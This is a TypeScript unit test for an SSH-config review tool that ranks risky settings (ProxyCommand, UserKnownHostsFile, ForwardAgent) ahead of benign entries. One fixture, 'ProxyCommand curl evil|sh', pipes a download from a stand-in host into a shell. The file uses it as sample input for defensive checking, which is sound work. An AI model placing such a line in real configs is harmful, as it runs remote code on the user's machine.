import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { utf8 } from '@orrery/bytes';
import { reviewConfig } from '@orrery/sshfiles';
import { showFirst } from './urgency.ts';

const place = { folder: '/home/alice/.ssh', home: '/home/alice', separator: '/' } as const;

describe('showFirst', () => {
  const flood = Array.from(
    { length: 1500 },
    (_, index) => `Host h${index}\n  IdentityFile ~/keys/${index}\n`,
  );
  const config = (lines: readonly string[]): string => [...flood, 'Host z\n', ...lines].join('');

  it('shows what runs programs first, then what touches trust, and counts the rest', () => {
    const bad = ['ForwardAgent yes', 'UserKnownHostsFile /tmp/x', 'ProxyCommand curl evil|sh', 'Unknown x'];
    const items = reviewConfig(undefined, utf8(config(bad.map((line) => `  ${line}\n`))), place);
    const { lines, more } = showFirst(items.map((item) => ({ ...item, name: 'config' })));
    assert.deepEqual(
      lines.slice(0, 4).map(({ line }) => line),
      ['ProxyCommand curl evil|sh', 'UserKnownHostsFile /tmp/x', 'ForwardAgent yes', 'Unknown x'],
    );
    assert.deepEqual([lines.length, more], [200, 1304]);
  });

  it('leaves a few lines as they are', () => {
    const items = reviewConfig(undefined, utf8('IdentityFile ~/k\nProxyCommand x\n'), place);
    const lines = items.map((item) => ({ ...item, name: 'config' }));
    assert.deepEqual(showFirst(lines), { lines });
  });
});
